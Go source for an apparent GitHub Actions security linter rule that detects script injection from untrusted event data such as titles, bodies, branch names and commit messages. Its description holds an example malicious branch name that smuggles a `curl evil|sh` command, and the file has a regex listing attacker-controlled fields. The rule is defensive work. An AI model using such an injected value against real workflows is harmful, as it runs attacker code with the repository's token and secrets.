package workflow

import (
	"fmt"
	"regexp"
	"strings"

	"github.com/airlock-sec/airlock/internal/model"
	"github.com/airlock-sec/airlock/internal/rules"
	wf "github.com/airlock-sec/airlock/internal/workflow"
)

// ScriptInjection reports attacker-controlled expressions interpolated
// into scripts.
type ScriptInjection struct{}

func (ScriptInjection) Meta() rules.Meta {
	return rules.Meta{
		ID:    "workflow/script-injection",
		Title: "untrusted event data interpolated into a script",
		Description: "`${{ … }}` is replaced in the script text before the shell runs it. Values an outsider " +
			"controls — issue and pull-request titles and bodies, comment and review bodies, branch names " +
			"(`github.head_ref`, `head.ref`), commit messages and author names, discussion titles, wiki page names — " +
			"then become code: a branch named `a\";curl evil|sh;#` runs on the runner with the job's token and secrets. " +
			"Checked in `run:` scripts and in `actions/github-script`'s `script:`. Pass the value through an " +
			"environment variable (`env: TITLE: ${{ github.event.issue.title }}` and `\"$TITLE\"`) instead.",
		Severity: model.High,
	}
}

var untrustedCtx = regexp.MustCompile(`(?i)\bgithub\.(head_ref|event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|pages\.[^ }]*\.page_name|commits\.[^ }]*\.(message|author\.(email|name))|head_commit\.(message|author\.(email|name)|committer\.(email|name))|workflow_run\.(head_branch|head_commit\.(message|author\.(email|name))|display_title|pull_requests\.[^ }]*\.head\.ref)|discussion\.(title|body)|release\.(name|body)))`)

func (ScriptInjection) Check(_ *Context, f *wf.File, r *rules.Reporter) {
	checkText := func(text string, pos func(line, col int) wf.Pos, where string) {
		if !strings.Contains(text, "${{") {
			return
		}
		for i, line := range strings.Split(text, "\n") {
			if !strings.Contains(line, "${{") {
				continue
			}
			for _, m := range expr.FindAllStringSubmatchIndex(line, -1) {
				inner := line[m[2]:m[3]]
				if u := untrustedCtx.FindString(inner); u != "" {
					r.Report(at(f, pos(i+1, m[0]+1), model.High,
						fmt.Sprintf("%q is attacker-controlled and is pasted into %s as code: pass it through an environment variable", u, where)))
				}
			}
		}
	}
	for _, j := range f.Jobs {
		for _, s := range j.Steps {
			if s.Run != nil {
				run := s.Run
				checkText(run.Text, func(l, c int) wf.Pos { return scriptPos(run, l, c) }, "a run script")
			}
			if usesAction(s, "actions/github-script") {
				if kv, ok := with(s, "script"); ok {
					v := kv.Value
					checkText(v.Value, func(l, c int) wf.Pos {
						if l == 1 {
							return wf.Pos{Line: v.Pos.Line, Col: v.Pos.Col + c - 1}
						}
						return wf.Pos{Line: v.Pos.Line + l}
					}, "a github-script script")
				}
			}
		}
	}
}
